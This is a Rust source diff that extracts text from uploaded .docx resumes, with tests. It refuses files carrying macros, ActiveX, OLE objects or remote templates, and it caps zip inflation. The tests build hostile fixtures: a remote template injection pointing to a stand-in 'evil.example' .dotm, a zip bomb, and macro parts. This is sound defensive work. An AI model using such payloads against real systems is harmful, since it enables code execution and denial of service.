@@ -1,0 +1,249 @@
+//! Word (.docx) resumes: the paragraphs of `word/document.xml`, after refusing files that
+//! carry macros, ActiveX controls, embedded objects or a template fetched from elsewhere
+//! (a `.docm` renamed `.docx` holds its macros in `word/vbaProject.bin`).
+
+use std::io::Read;
+
+use super::{ActiveContent, ExtractError, MAX_TEXT_BYTES};
+
+/// Most bytes `word/document.xml` may inflate to: a zip bomb stops here.
+const MAX_DOCX_XML_BYTES: u64 = 32 * 1024 * 1024;
+/// Most bytes read of the small parts that declare content types and relationships.
+const MAX_PART_BYTES: u64 = 1024 * 1024;
+
+type Archive<'a> = zip::ZipArchive<std::io::Cursor<&'a [u8]>>;
+
+pub(super) fn text(bytes: &[u8]) -> Result<String, ExtractError> {
+    let mut archive =
+        zip::ZipArchive::new(std::io::Cursor::new(bytes)).map_err(|_| ExtractError::Unreadable)?;
+    if let Some(found) = active_content(&mut archive)? {
+        return Err(ExtractError::ActiveContent(found));
+    }
+    let entry = archive
+        .by_name("word/document.xml")
+        .map_err(|_| ExtractError::NotDocx)?;
+    if entry.encrypted() {
+        return Err(ExtractError::Encrypted);
+    }
+    let mut xml = Vec::new();
+    // `take` bounds what is inflated, whatever the entry's header claims.
+    entry
+        .take(MAX_DOCX_XML_BYTES + 1)
+        .read_to_end(&mut xml)
+        .map_err(|_| ExtractError::Unreadable)?;
+    if xml.len() as u64 > MAX_DOCX_XML_BYTES {
+        return Err(ExtractError::Unreadable);
+    }
+    xml_text(&xml)
+}
+
+/// The first kind of active content the package holds, judged by its part names and
+/// the two small parts that declare macro-enabled content and external templates.
+fn active_content(archive: &mut Archive<'_>) -> Result<Option<ActiveContent>, ExtractError> {
+    for name in archive.file_names() {
+        let name = name.to_ascii_lowercase();
+        let file = name.rsplit('/').next().unwrap_or_default();
+        if file == "vbaproject.bin" || file == "vbadata.xml" {
+            return Ok(Some(ActiveContent::Macros));
+        }
+        if name.contains("/activex/") || name.starts_with("activex/") {
+            return Ok(Some(ActiveContent::ActiveX));
+        }
+        // OLE objects (`oleObject1.bin`) can wrap programs; embedded Office documents
+        // (charts' `.xlsx`) cannot run by themselves and stay allowed.
+        if name.contains("embeddings/") && file.ends_with(".bin") {
+            return Ok(Some(ActiveContent::EmbeddedObject));
+        }
+    }
+    if part(archive, "[Content_Types].xml")?.is_some_and(|xml| contains(&xml, b"macroEnabled")) {
+        return Ok(Some(ActiveContent::Macros));
+    }
+    // A template attached by an external link is fetched, with its macros, when the
+    // document opens ("remote template injection").
+    if part(archive, "word/_rels/settings.xml.rels")?.is_some_and(|xml| {
+        contains(&xml, b"attachedTemplate") && contains(&xml, b"TargetMode=\"External\"")
+    }) {
+        return Ok(Some(ActiveContent::RemoteTemplate));
+    }
+    Ok(None)
+}
+
+/// A small part's bytes, if the package has it.
+fn part(archive: &mut Archive<'_>, name: &str) -> Result<Option<Vec<u8>>, ExtractError> {
+    let entry = match archive.by_name(name) {
+        Ok(entry) => entry,
+        Err(zip::result::ZipError::FileNotFound) => return Ok(None),
+        Err(_) => return Err(ExtractError::Unreadable),
+    };
+    let mut bytes = Vec::new();
+    entry
+        .take(MAX_PART_BYTES)
+        .read_to_end(&mut bytes)
+        .map_err(|_| ExtractError::Unreadable)?;
+    Ok(Some(bytes))
+}
+
+fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w == needle)
+}
+
+/// The text runs of a WordprocessingML body, a line per paragraph (table cells hold
+/// paragraphs too); tabs and breaks end a word.
+fn xml_text(xml: &[u8]) -> Result<String, ExtractError> {
+    use quick_xml::events::Event;
+    let mut reader = quick_xml::Reader::from_reader(xml);
+    let mut buffer = Vec::new();
+    let mut text = String::new();
+    let mut in_text = false;
+    loop {
+        match reader
+            .read_event_into(&mut buffer)
+            .map_err(|_| ExtractError::Unreadable)?
+        {
+            Event::Start(e) if e.local_name().as_ref() == b"t" => in_text = true,
+            Event::End(e) if e.local_name().as_ref() == b"t" => in_text = false,
+            Event::End(e) if e.local_name().as_ref() == b"p" => text.push('\n'),
+            Event::Empty(e) if matches!(e.local_name().as_ref(), b"tab" | b"br" | b"cr") => {
+                text.push(' ');
+            }
+            Event::Text(t) if in_text => {
+                text.push_str(&t.unescape().map_err(|_| ExtractError::Unreadable)?);
+                if text.len() > MAX_TEXT_BYTES {
+                    break;
+                }
+            }
+            Event::Eof => break,
+            _ => {}
+        }
+        buffer.clear();
+    }
+    Ok(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::extract;
+    use super::*;
+    use crate::domain::resume::ResumeKind;
+    use std::io::Write;
+
+    /// A package of the given parts.
+    fn package(parts: &[(&str, &[u8])]) -> Vec<u8> {
+        let mut out = std::io::Cursor::new(Vec::new());
+        let mut zip = zip::ZipWriter::new(&mut out);
+        for (name, bytes) in parts {
+            zip.start_file(*name, zip::write::SimpleFileOptions::default())
+                .expect("entry");
+            zip.write_all(bytes).expect("write");
+        }
+        zip.finish().expect("finish");
+        out.into_inner()
+    }
+
+    const BODY: &[u8] = br#"<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Plain resume</w:t></w:r></w:p></w:body></w:document>"#;
+
+    #[test]
+    fn paragraphs_and_runs_become_lines() {
+        let xml = r#"<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>José</w:t></w:r><w:r><w:t xml:space="preserve"> Ólafur</w:t></w:r></w:p><w:p><w:r><w:t>SSN 123-45-6789 &amp; more</w:t></w:r></w:p></w:body></w:document>"#;
+        let text = extract(
+            ResumeKind::Docx,
+            &package(&[("word/document.xml", xml.as_bytes())]),
+        )
+        .expect("text");
+        assert_eq!(text, "José Ólafur\nSSN 123-45-6789 & more\n");
+    }
+
+    #[test]
+    fn table_cells_never_glue_their_words() {
+        let xml = br#"<w:document xmlns:w="x"><w:body><w:tbl><w:tr><w:tc><w:p><w:r><w:t>Religion</w:t></w:r></w:p></w:tc><w:tc><w:p><w:r><w:t>none</w:t></w:r></w:p></w:tc></w:tr></w:tbl><w:p><w:r><w:t>Line</w:t></w:r><w:r><w:br/><w:t>break</w:t></w:r></w:p></w:body></w:document>"#;
+        let text =
+            extract(ResumeKind::Docx, &package(&[("word/document.xml", xml)])).expect("text");
+        assert_eq!(text, "Religion\nnone\nLine break\n");
+    }
+
+    #[test]
+    fn a_zip_without_a_word_document_is_not_a_docx() {
+        assert_eq!(
+            extract(ResumeKind::Docx, &package(&[("evil.exe", b"MZ")])),
+            Err(ExtractError::NotDocx)
+        );
+    }
+
+    #[test]
+    fn a_zip_bomb_stops_at_the_inflation_cap() {
+        // 40 MiB of one repeated character compresses to a few dozen KiB.
+        let body = format!(
+            "<w:document><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>",
+            "a".repeat(40 << 20)
+        );
+        let bomb = package(&[("word/document.xml", body.as_bytes())]);
+        assert!(bomb.len() < 1 << 20, "compressed to {} bytes", bomb.len());
+        assert_eq!(
+            extract(ResumeKind::Docx, &bomb),
+            Err(ExtractError::Unreadable)
+        );
+    }
+
+    #[test]
+    fn macros_activex_ole_objects_and_remote_templates_are_refused() {
+        let refused = |parts: &[(&str, &[u8])]| match extract(ResumeKind::Docx, &package(parts)) {
+            Err(ExtractError::ActiveContent(found)) => Some(found),
+            _ => None,
+        };
+        let with = |name: &'static str, bytes: &'static [u8]| {
+            vec![("word/document.xml", BODY), (name, bytes)]
+        };
+        assert_eq!(
+            refused(&with("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")),
+            Some(ActiveContent::Macros)
+        );
+        // Whatever the case or folder a renamed .docm uses.
+        assert_eq!(
+            refused(&with("Word/VBAPROJECT.BIN", b"x")),
+            Some(ActiveContent::Macros)
+        );
+        assert_eq!(
+            refused(&with(
+                "[Content_Types].xml",
+                br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#
+            )),
+            Some(ActiveContent::Macros)
+        );
+        assert_eq!(
+            refused(&with("word/activeX/activeX1.xml", b"<ax/>")),
+            Some(ActiveContent::ActiveX)
+        );
+        assert_eq!(
+            refused(&with("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")),
+            Some(ActiveContent::EmbeddedObject)
+        );
+        assert_eq!(
+            refused(&with(
+                "word/_rels/settings.xml.rels",
+                br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#
+            )),
+            Some(ActiveContent::RemoteTemplate)
+        );
+    }
+
+    #[test]
+    fn ordinary_parts_and_embedded_charts_are_not_active() {
+        let parts: &[(&str, &[u8])] = &[
+            ("word/document.xml", BODY),
+            (
+                "[Content_Types].xml",
+                br#"<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#,
+            ),
+            ("word/media/image1.png", b"\x89PNG"),
+            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"PK"),
+            (
+                "word/_rels/settings.xml.rels",
+                br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="Normal.dotm"/></Relationships>"#,
+            ),
+        ];
+        assert_eq!(
+            extract(ResumeKind::Docx, &package(parts)).as_deref(),
+            Ok("Plain resume\n")
+        );
+    }
+}
